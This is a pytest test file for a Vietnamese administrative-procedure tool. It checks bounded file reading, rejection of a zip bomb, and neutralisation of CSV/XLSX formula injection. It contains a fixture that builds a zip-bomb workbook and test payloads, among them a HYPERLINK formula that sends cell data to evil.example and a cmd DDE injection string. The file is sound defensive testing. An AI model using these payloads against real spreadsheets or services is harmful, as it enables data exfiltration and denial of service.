"""The bounded reader and the safe writer (:mod:`hopnhat.files`), and the importers and exporters that use them."""

from __future__ import annotations

import csv
import io
import time
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from hopnhat.cli import app
from hopnhat.config import Settings, province_code
from hopnhat.errors import InvalidInput
from hopnhat.files import (
    FileLimits,
    decode,
    read_csv_rows,
    read_text,
    read_toml,
    read_xlsx,
    read_xlsx_rows,
    read_yaml,
    restore_cell,
    safe_cell,
    write_csv,
    write_xlsx,
)
from hopnhat.settlement import catalog, reports
from hopnhat.settlement.schemas import ProcedureIn, ReportRow
from hopnhat.settlement.service import upsert_procedure

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ấn vào đây")'
PHONE = "+84912345678"
# "Cái Khế" as Windows-1258 writes it (a base letter and a combining tone mark): not UTF-8.
LATIN = "C\u00e1i Kh\u00ea\u0301".encode("cp1258")


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def _workbook(path: Path, rows: list[list[object]]) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real workbook whose sheet is 128 MiB of rows squeezed into under 1 MB: openpyxl would parse it for
    minutes."""
    plain = io.BytesIO()
    book = Workbook()
    book.save(plain)
    path = tmp_path_factory.mktemp("bomb") / "centers.xlsx"
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    chunk = row * ((16 << 20) // len(row))
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                out.writestr(name, source.read(name))
        with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(8):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    assert path.stat().st_size < 1 << 20
    return path


# --- reading ---------------------------------------------------------------------------------------------------------


def test_limits_come_from_the_settings() -> None:
    settings = Settings(import_max_bytes=4096, import_max_rows=7, xlsx_max_uncompressed_bytes=8192)
    assert FileLimits.from_settings(settings) == FileLimits(4096, 7, 8192)
    defaults = Settings()
    assert FileLimits() == FileLimits(
        defaults.import_max_bytes, defaults.import_max_rows, defaults.xlsx_max_uncompressed_bytes
    )


def test_zip_bomb_is_refused_before_parsing(bomb: Path) -> None:
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match="zip bomb") as info:
        read_xlsx(bomb, FileLimits())
    assert time.perf_counter() - started < 0.5
    assert str(bomb) in info.value.detail and "xl/worksheets/sheet1.xml" in info.value.detail


def test_workbook_over_the_decompressed_limit_is_refused(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "units.xlsx", [["code", "name"], ["31120", "Phường Cái Khế"]])
    assert read_xlsx_rows(path, FileLimits()) == [{"code": "31120", "name": "Phường Cái Khế"}]
    with pytest.raises(InvalidInput, match="xlsx_max_uncompressed_bytes") as info:
        read_xlsx(path, FileLimits(xlsx_max_uncompressed_bytes=1024))
    assert str(path) in info.value.detail


def test_not_a_workbook_is_one_clear_error(tmp_path: Path) -> None:
    text = tmp_path / "text.xlsx"
    text.write_text("code,name\n", encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"text\.xlsx: not an XLSX workbook"):
        read_xlsx(text, FileLimits())
    whole = _workbook(tmp_path / "whole.xlsx", [["a"], ["b"]]).read_bytes()
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(whole[: len(whole) // 2])
    with pytest.raises(InvalidInput, match=r"cut\.xlsx: not an XLSX workbook"):
        read_xlsx(cut, FileLimits())


def test_oversized_file_is_refused_without_opening_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "centers.csv"
    path.write_text("code,name\n" + "31120,Trung tâm\n" * 200, encoding="utf-8")
    small = FileLimits(max_bytes=1024)

    def no_open(*args: object, **kwargs: object) -> None:
        raise AssertionError("the file was opened")

    monkeypatch.setattr(Path, "open", no_open)
    for read in (read_text, read_csv_rows, read_xlsx, read_yaml, read_toml):
        with pytest.raises(InvalidInput, match="import_max_bytes") as info:
            read(path, small)  # type: ignore[operator]
        assert str(path) in info.value.detail and f"{path.stat().st_size:,} bytes" in info.value.detail


def test_too_many_rows_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "plan.csv"
    path.write_text("code\nT1\nT2\nT3\n", encoding="utf-8")
    assert [r["code"] for r in read_csv_rows(path, FileLimits(max_rows=3))] == ["T1", "T2", "T3"]
    with pytest.raises(InvalidInput, match=r"plan\.csv: more than 2 rows \(setting import_max_rows\)"):
        list(read_csv_rows(path, FileLimits(max_rows=2)))
    with pytest.raises(InvalidInput, match="plan CSV: more than 2 rows"):
        list(read_csv_rows(path.read_text(encoding="utf-8"), FileLimits(max_rows=2), "plan CSV"))
    book = _workbook(tmp_path / "plan.xlsx", [["code"], ["T1"], ["T2"], ["T3"]])
    with pytest.raises(InvalidInput, match=r"plan\.xlsx: more than 2 rows"):
        read_xlsx(book, FileLimits(max_rows=2))


def test_wrong_encoding_names_the_file_the_line_and_the_byte(tmp_path: Path) -> None:
    path = tmp_path / "centers.csv"
    head = b"code,name\n31120,Trung t\xc3\xa2m\n"
    path.write_bytes(head + b"31135," + LATIN + b"\n")
    offset = len(head) + len(b"31135,C")  # the byte of "á"
    message = f"{path}: line 3: not UTF-8 text (invalid continuation byte at byte {offset})"
    with pytest.raises(InvalidInput) as whole:
        read_text(path, FileLimits())
    with pytest.raises(InvalidInput) as streamed:
        list(read_csv_rows(path, FileLimits()))
    assert whole.value.detail == streamed.value.detail == message
    # A BOM does not shift the offset; a second encoding is tried before giving up.
    with pytest.raises(InvalidInput, match=f"line 3: not UTF-8 text .* at byte {offset + 3}"):
        decode(b"\xef\xbb\xbf" + path.read_bytes(), "bom.csv")
    assert unicodedata.normalize("NFC", decode(path.read_bytes(), "x", ("utf-8-sig", "cp1258"))).endswith("Cái Khế\n")


def test_a_field_over_the_csv_limit_is_an_error_not_a_crash(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_text('code,name\n1,"' + "a" * 200_000 + '"\n', encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"big\.csv: line 2: a field is longer than 131,072 characters"):
        list(read_csv_rows(path, FileLimits()))


def test_yaml_and_toml_errors_name_the_file_and_the_line(tmp_path: Path) -> None:
    yml = tmp_path / "systems.yaml"
    yml.write_text("systems:\n  - code: a\n    name: [1, 2\n", encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"systems\.yaml: line 4, column 1: not valid YAML"):
        read_yaml(yml, FileLimits())
    yml.write_text("systems:\n  - code: a\n", encoding="utf-8")
    assert read_yaml(yml, FileLimits()) == {"systems": [{"code": "a"}]}
    toml = tmp_path / "sources.toml"
    toml.write_text('[source]\nname = "a"\nurl = \n', encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"sources\.toml: not valid TOML: .*line 3"):
        read_toml(toml, FileLimits())
    toml.write_text('[source]\nname = "a"\n', encoding="utf-8")
    assert read_toml(toml, FileLimits()) == {"source": {"name": "a"}}


def test_a_missing_file_or_a_directory_is_one_line(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="no such file"):
        read_text(tmp_path / "missing.csv", FileLimits())
    with pytest.raises(InvalidInput, match="is a directory"):
        read_text(tmp_path, FileLimits())


# --- writing ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # an apostrophe before a formula survives the reader's stripping
        (PHONE, PHONE),
        ("+84 912 345 678", "+84 912 345 678"),
        ("-5", "-5"),
        ("-12.5", "-12.5"),
        ("+1e3", "+1e3"),
        ("Phường Cái Khế", "Phường Cái Khế"),
        ("'quoted", "'quoted"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert restore_cell(str(written)) == value


def test_csv_written_is_read_back_unchanged() -> None:
    rows = [{"code": "=1+1", "phone": PHONE, "n": -5, "note": "-2+3"}, {"code": "'=x", "phone": "", "n": 0}]
    text = write_csv(rows, ["code", "phone", "n", "note"])
    assert text.splitlines()[1] == f"'=1+1,{PHONE},-5,'-2+3"
    back = list(read_csv_rows(text, FileLimits()))
    assert back == [
        {"code": "=1+1", "phone": PHONE, "n": "-5", "note": "-2+3"},
        {"code": "'=x", "phone": "", "n": "0", "note": ""},
    ]


def test_xlsx_text_is_never_a_formula() -> None:
    data = write_xlsx(
        {"s": (["text", "n", "phone", "minus"], [{"text": FORMULA, "n": -5, "phone": PHONE, "minus": "-5"}])}
    )
    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data))["s"]
    [cells] = sheet.iter_rows(min_row=2)
    assert [(c.value, c.data_type) for c in cells] == [(FORMULA, "s"), (-5, "n"), (PHONE, "s"), ("-5", "s")]
    assert cells[0].quotePrefix and not cells[2].quotePrefix


# --- the exporters ---------------------------------------------------------------------------------------------------


def test_report_exports_neutralise_formulas() -> None:
    row = ReportRow(
        center_code=FORMULA,
        received=3,
        finished=2,
        early=0,
        on_time=2,
        late=0,
        on_time_rate=1.0,
        avg_working_days=-5,
        online_share=None,
        synced_share=None,
    )
    text = reports.render([row], "csv").decode("utf-8")
    assert list(csv.reader(io.StringIO(text)))[1][:2] == ["'" + FORMULA, "3"]
    assert ",-5.0," in text
    book = reports.render([row], "xlsx")
    assert "<f>" not in _sheet_xml(book)
    [cells] = load_workbook(io.BytesIO(book))["report"].iter_rows(min_row=2, values_only=True)
    assert cells[:2] == (FORMULA, 3) and cells[7] == -5


def test_catalogue_csv_export_is_neutralised_and_imports_back(db: Session) -> None:
    upsert_procedure(db, ProcedureIn(code="MAU-F1", name=FORMULA, level="province", fees="-5", legal_basis=PHONE))
    text = catalog.export_catalog(db, "csv")
    [exported] = [r for r in csv.reader(io.StringIO(text)) if r[0] == "MAU-F1"]
    assert exported[1] == "'" + FORMULA
    catalog.import_catalog(db, text, "csv")
    back = {r["code"]: r for r in read_csv_rows(catalog.export_catalog(db, "csv"), FileLimits())}
    assert (back["MAU-F1"]["name"], back["MAU-F1"]["fees"], back["MAU-F1"]["legal_basis"]) == (FORMULA, "-5", PHONE)


# --- the importers, from the command line ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    url = f"sqlite:///{tmp_path_factory.mktemp('files') / 'store.db'}"
    # The home province's registry: the importers read no other, and the whole country takes seconds more.
    result = CliRunner().invoke(app, ["--db", url, "registry", "load", "--province", province_code()])
    assert result.exit_code == 0, result.output
    yield url


IMPORTERS = [
    ("centers.csv", "centers import {file}"),
    ("plan.csv", "plan import {file}"),
    ("systems.csv", "systems import {file}"),
    ("systems.yaml", "systems import {file}"),
    ("catalogue.csv", "catalog import {file}"),
    ("rules.csv", "catalog relevel --rules {file}"),
    ("changes.csv", "registry apply-changes {file}"),
    ("rule.yaml", "agencies issue --rule {file}"),
    ("addresses.csv", "address convert-file {file} --column name --output {out}"),
]


def _run(store: str, command: str, path: Path, **env: str) -> tuple[int, str]:
    args = [a.format(file=path, out=path.with_name("out.csv")) for a in command.split()]
    result = CliRunner().invoke(app, ["--db", store, *args], env=env)
    return result.exit_code, result.output.replace("\n", "")


@pytest.mark.parametrize(("name", "command"), IMPORTERS, ids=[c.split(" {")[0] + f" ({n})" for n, c in IMPORTERS])
def test_every_importer_is_bounded(store: str, tmp_path: Path, name: str, command: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"code,name\n" + b"31120,x\n" * 300)
    code, out = _run(store, command, path, HOPNHAT_IMPORT_MAX_BYTES="1024")
    assert code == 1 and f"{path}: 2,410 bytes is more than the 1,024" in out and "Traceback" not in out, out
    path.write_bytes(b"code,name\n31120,x\n31135," + LATIN + b"\n")
    code, out = _run(store, command, path)
    assert code == 1 and f"{path}: line 3: not UTF-8 text" in out and "Traceback" not in out, out
    assert not path.with_name("out.csv").exists()


def test_centers_import_refuses_a_zip_bomb(store: str, bomb: Path) -> None:
    result = CliRunner().invoke(app, ["--db", store, "centers", "import", str(bomb)])
    assert result.exit_code == 1 and "zip bomb" in result.output and "Traceback" not in result.output
    assert len(result.output.strip().splitlines()) <= 2


def test_centers_import_rows_are_bounded(store: str, tmp_path: Path) -> None:
    path = tmp_path / "centers.csv"
    path.write_text("code,name\n31120,A\n31135,B\n31149,C\n", encoding="utf-8")
    result = CliRunner().invoke(
        app, ["--db", store, "centers", "import", str(path)], env={"HOPNHAT_IMPORT_MAX_ROWS": "2"}
    )
    assert result.exit_code == 1 and "more than 2 rows" in result.output, result.output
